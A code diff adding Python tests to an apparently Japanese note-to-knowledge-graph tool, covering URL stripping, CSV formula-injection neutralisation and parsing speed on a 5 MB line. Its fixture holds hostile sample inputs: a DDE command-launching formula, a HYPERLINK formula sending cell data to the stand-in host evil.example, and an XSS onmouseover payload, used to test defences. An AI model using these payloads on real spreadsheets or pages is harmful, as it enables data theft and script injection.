@@ -257,6 +257,16 @@ def test_deep_nesting_reaches_report_json_and_does_not_skip_the_note(tmp_path):
     assert any(w.startswith("deep.md:3: ") and "nest" in w for w in report["warnings"]), report["warnings"]
 
 
+@pytest.mark.parametrize("text, shown", [
+    ("詳しくは https://example.jp/pageを参照。次の文。", "詳しくは を参照。次の文。"),
+    ("窓口 info@example.jpまで連絡する。", "窓口 まで連絡する。"),
+    ("(https://example.jp/page)と書く", "()と書く"),
+])
+def test_a_bare_url_ends_where_ascii_does_so_the_japanese_after_it_is_kept(text, shown):
+    note, _ = parse_note(text, "url.md")
+    assert note.blocks[0].text == shown
+
+
 # Hypothesis writes notes of nested and malformed markup around placeholder words; every word
 # sits where a reader sees it (never in a URL, code, math, a comment or a link target), so every
 # word must reach the text of some block.
@@ -330,3 +340,73 @@ def test_every_visible_word_of_nested_and_malformed_markup_reaches_a_block(first
     shown = "\n".join(b.text for b in note.blocks)
     missing = [w for w in words if not re.search(rf"{w}(?!\d)", shown)]
     assert not missing, f"lost {missing} of\n{text}"
+
+
+# == 2. no formula in a CSV, no markup in a name ===============================================
+
+HOSTILE_NAMES = """# =cmd|' /C calc'!A0 の見出し
+
+[[経済協力開発機構|=HYPERLINK("http://evil.example/?d="&A1,"詳細")機構]]は会合を開いた。
+
+日本とケニアは「+1-1協定」と「-2+3協定」を結んだ。
+
+[[経済協力開発機構|<b onmouseover=alert(1)>経済協力開発機構</b>]]とペルーが協力する。
+
+=1+1 とチリは書いた。
+"""
+FORMULA_START = tuple("=+-@\t\r")
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.ginza
+def test_no_csv_cell_starts_a_formula_and_no_name_carries_markup(tmp_path, nlp):
+    vault = tmp_path / "vault"
+    vault.mkdir()
+    (vault / "=1+2.md").write_text(HOSTILE_NAMES, encoding="utf-8")
+    (vault / "@note.md").write_text("ケニアとチリは協力する。\n", encoding="utf-8")
+    out = tmp_path / "out"
+    result = CliRunner().invoke(main, ["build", str(vault), "-o", str(out), "-q", "--measure", "npmi"])
+    assert result.exit_code == 0, result.output
+    neutralised = []
+    for name in ("nodes.csv", "edges.csv", "mentions.csv"):
+        rows = list(csv.reader((out / name).read_text(encoding="utf-8-sig").splitlines(True)))
+        assert len(rows) > 1, name
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(FORMULA_START) or _is_number(cell), (name, cell)
+                neutralised += [cell] if cell.startswith("'") else []
+    # neutralised, not removed: the names are still there, behind a quote, and raw in the graph
+    assert {"'+1-1協定", "'-2+3協定", "'=1+2.md", "'@note.md"} <= set(neutralised)
+    labels = {d["label"] for _, d in nx.read_graphml(out / "graph.graphml").nodes(data=True)}
+    assert {"+1-1協定", "-2+3協定", "ケニア", "ペルー", "チリ"} <= labels
+    assert not [label for label in labels if set(label) & set("<>=\"&")], labels
+
+
+# == 5. long lines read in linear time; long blocks reach NER in parts ===========================
+
+
+def test_a_5_mb_line_reads_in_seconds(tmp_path):
+    """Base64 (a pasted image) and Japanese with URL-like characters, 5 MB on one line."""
+    import base64
+
+    chunk = base64.b64encode(bytes(range(256)) * 12).decode() + "時刻は10:00、www.example.jpとinfo@example.jpとhttp:も参照。"
+    line = (chunk * (5_000_000 // len(chunk) + 1))[:5_000_000]
+    (tmp_path / "line.md").write_text(f"# 長い行\n\n{line}\n", encoding="utf-8")
+    script = ("import sys, time; from kg.notes import read_note; t = time.process_time(); "
+              "note, _ = read_note(sys.argv[1], 'line.md'); "
+              "print(time.process_time() - t, sum(len(b.text) for b in note.blocks))")
+    try:
+        done = subprocess.run([sys.executable, "-c", script, str(tmp_path / "line.md")],
+                              capture_output=True, text=True, cwd=ROOT, timeout=120, check=True)
+    except subprocess.TimeoutExpired:
+        pytest.fail("reading one 5 MB line took more than two minutes")
+    seconds, characters = done.stdout.split()
+    assert float(seconds) < 15
+    assert int(characters) >= len(line) * 0.95  # the URLs and the address are not text; the rest is
